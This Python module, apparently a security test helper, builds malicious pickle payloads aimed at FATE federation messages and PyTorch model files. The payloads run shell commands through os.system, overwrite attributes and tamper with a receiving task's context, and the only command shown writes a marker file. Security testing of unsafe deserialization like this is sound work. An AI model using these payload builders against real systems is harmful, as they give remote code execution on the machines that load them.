"""Pickles that a hostile peer could send, and the means to write them instruction by instruction."""

from __future__ import annotations

import io
import os
import pickle
import struct
import zipfile
from pathlib import Path

PROTOCOL = b"\x80\x04"
MARK, TUPLE_OF_1, TUPLE_OF_2, CALL, FILL, END, NONE = b"(", b"\x85", b"\x86", b"R", b"b", b".", b"N"
SERDES = "fate.arch.federation.api._serdes"


class Command:
    """An object that runs a command where its pickle is read."""

    def __init__(self, command: str):
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)


class Built:
    """Pickled as a call, with a state that is filled in afterwards."""

    def __init__(self, function, *arguments, state=None):
        self.reduced = (function, arguments) if state is None else (function, arguments, state)

    def __reduce__(self):
        return self.reduced


def filled(kind, state) -> Built:
    """An object of a class, as its pickle begins, with a state of a peer's choice."""
    return Built(kind, state=state)


def text(value: str) -> bytes:
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data


def name(module: str, inside: str) -> bytes:
    """The instruction that looks a name up."""
    return text(module) + text(inside) + b"\x93"


def call(module: str, inside: str, *arguments: str) -> bytes:
    """A pickle that calls a function with texts."""
    return PROTOCOL + name(module, inside) + MARK + b"".join(map(text, arguments)) + b"t" + CALL + END


def set_attribute(module: str, inside: str, attribute: str) -> bytes:
    """A pickle that sets an attribute of a class or function to None."""
    state = b"}" + text(attribute) + NONE + b"s"
    return PROTOCOL + name(module, inside) + NONE + state + TUPLE_OF_2 + FILL + END


def refer(kind: str, **attributes: str) -> bytes:
    """A pickle that is what FATE takes for something beside the message, such as the receiver's own context."""
    state = b"}" + b"".join(text(key) + text(value) + b"s" for key, value in attributes.items())
    return name(SERDES, kind) + b")\x81" + state + FILL + b"Q"


def change_context(attribute: str) -> bytes:
    """A message that sets an attribute of the context of the task that reads it."""
    state = b"}" + text(attribute) + text("hostile") + b"s"
    return PROTOCOL + refer("_ContextPersistentId", key="x") + state + FILL + END


def tensor_of(data: bytes) -> bytes:
    """A pickle that gives torch these bytes to read as the numbers of a tensor."""
    quoted = b"B" + struct.pack("<I", len(data)) + data
    return PROTOCOL + name("torch.storage", "_load_from_bytes") + quoted + TUPLE_OF_1 + CALL + END


def archive(command: str) -> bytes:
    """A file as torch writes models, with a pickle that runs a command."""
    with io.BytesIO() as file:
        with zipfile.ZipFile(file, "w") as contents:
            contents.writestr("archive/data.pkl", pickle.dumps(Command(command)))
            contents.writestr("archive/version", "3\n")
        return file.getvalue()


def old_tensor(command: str) -> bytes:
    """What begins as the numbers of a tensor do, and goes on with a pickle that runs a command."""
    sizes = {"short": 2, "int": 4, "long": 4}
    beginning = [0x1950A86A20F9469CFC6C, 1001, {"protocol_version": 1001, "little_endian": True, "type_sizes": sizes}]
    return b"".join(pickle.dumps(each, protocol=2) for each in (*beginning, Command(command)))


def dotted(marker: Path) -> bytes:
    """By a module of FATE's that has imported it, to `os.system`."""
    return call("fate.arch.config._config", "os.system", f"touch {marker}")
